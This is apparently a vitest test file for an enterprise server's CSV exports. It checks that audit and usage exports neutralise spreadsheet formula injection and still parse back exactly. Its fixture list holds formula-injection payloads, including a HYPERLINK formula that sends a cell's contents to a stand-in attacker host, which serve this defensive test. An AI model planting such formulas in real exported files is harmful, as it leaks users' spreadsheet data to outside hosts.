/**
 * CSV exports are opened in spreadsheets: text a spreadsheet would run as a formula (a cell starting with
 * = + - @ tab or CR) is written with a leading apostrophe, in the audit export (route and CLI) and the usage
 * export, and the audit CSV still parses back to the exact entries and verifies.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAuditCsv, verifyExportedEntries } from '../packages/enterprise/src/audit/audit-export.js';
import { csvLine, parseCsv, parseRawCsv } from '../packages/enterprise/src/csv.js';
import { usageToCsv } from '../packages/enterprise/src/metering/usage-export.js';
import { createTestVendor, DAY_MS, request, startEnterpriseServer, type EnterpriseTestServer } from './helpers/enterprise-server.js';

const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+2', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'already quoted"];

/** The raw cells of a CSV text, without parseCsv's un-neutralising (a spreadsheet's view). */
const rawCells = (text: string): string[] => parseRawCsv(text).flat();

const dangerous = (cell: string) => /^[=+\-@\t\r]/.test(cell);

describe('CSV exports neutralise spreadsheet formulas', () => {
  let server: EnterpriseTestServer;
  beforeAll(async () => {
    const vendor = await createTestVendor();
    server = await startEnterpriseServer({
      plugin: {
        trustedPublicKeys: [vendor.publicJwk],
        license: { key: await vendor.issue({ expiresAt: new Date(Date.now() + 30 * DAY_MS) }) },
      },
    });
  });
  afterAll(() => server?.close());

  it('in the audit export, which still round-trips and verifies', async () => {
    // A key's name becomes an actor name (auth.denied on an admin route); key names allow a leading - or @.
    const names = ['-robot', '@robot'];
    for (const name of names) {
      const created = await request(`${server.url}/admin/keys`, {
        method: 'POST',
        headers: server.auth,
        body: { name, scopes: ['infer'] },
      });
      expect(created.status, created.text).toBe(201);
      expect((await request(`${server.url}/admin/keys`, { headers: { authorization: `Bearer ${created.json.token}` } })).status).toBe(403);
    }
    const csv = await request(`${server.url}/admin/audit/export?format=csv`, { headers: server.auth });
    expect(csv.status).toBe(200);
    const cells = rawCells(csv.text);
    expect(cells.filter(dangerous)).toEqual([]);
    for (const name of names) expect(cells).toContain(`'${name}`);
    const entries = parseAuditCsv(csv.text);
    for (const name of names)
      expect(
        entries.some((e) => e.actor.name === name),
        name,
      ).toBe(true);
    expect(verifyExportedEntries(entries)).toBeUndefined();
    const stored = server.app.sluiceEnterprise.audit.store.query({}, { limit: 1000, order: 'asc' }).entries;
    expect(entries).toEqual(stored.slice(0, entries.length)); // exact round trip
  });

  // Model names can no longer carry formulas (the name rule refuses them before any audit), so the audit
  // export's own writer is checked directly on every formula shape.
  it('in every field the CSV writer writes, which parses back to the exact text', () => {
    const text = FORMULAS.map((formula) => csvLine([formula, 1])).join('');
    expect(rawCells(text).filter(dangerous)).toEqual([]);
    expect(parseCsv(text).map((row) => row[0])).toEqual(FORMULAS);
  });

  it('in the usage export (keys may be SSO subjects, models any name)', () => {
    const rows = FORMULAS.map((key, i) => ({
      key,
      keyKind: 'oidc',
      model: FORMULAS[(i + 1) % FORMULAS.length],
      requests: 1,
      items: 1,
      tokens: -1,
      computeMs: 2,
      errors: 0,
    }));
    const text = usageToCsv(rows, ['key', 'model']);
    expect(rawCells(text).filter((cell) => dangerous(cell) && cell !== '-1')).toEqual([]); // numbers stay numbers
    const [header, ...parsed] = parseCsv(text);
    expect(header).toEqual(['key', 'key_kind', 'model', 'requests', 'items', 'tokens', 'compute_ms', 'errors']);
    expect(parsed.map((r) => r[0])).toEqual(FORMULAS);
  });
});
